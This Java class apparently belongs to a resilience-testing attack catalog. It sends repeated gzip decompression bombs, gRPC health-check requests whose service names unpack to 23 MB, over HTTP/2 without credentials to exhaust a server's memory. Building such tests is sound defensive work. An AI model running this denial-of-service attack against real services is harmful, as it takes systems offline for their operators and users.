package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import dev.sluice.attacks.wire.Proto;
import java.io.IOException;

/** Asks for the health of services whose names are 23 MB long when they are unpacked. */
final class GzipHealth extends Attack {
  private static final int NAME_BYTES = 23 << 20;
  private static final int CALLS = 60;

  private final String path;
  private byte[] message = {};

  GzipHealth(String name, String path) {
    super(name, Family.MEMORY, Access.NO_KEY, Bounds.of(40, 32, 16));
    this.path = path;
  }

  @Override
  void prepare() {
    message = Grpc.gzipBomb(new Proto(), NAME_BYTES, 1);
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(2, () -> callMany(attempt));
  }

  private void callMany(Attempt attempt) throws IOException, InterruptedException {
    try (Http2 connection = attempt.grpc()) {
      for (int i = 0; i < CALLS / 2; i++) {
        int stream = connection.newStream();
        connection.headers(stream, false, Grpc.gzipHeaders(path, ""));
        connection.data(stream, true, message);
        // The answer may never come, or come in pieces: it is enough to make room for it.
        connection.send(Frame.ofInt(Frame.WINDOW_UPDATE, 0, 1 << 20));
      }
      attempt.pause(500);
    }
  }
}
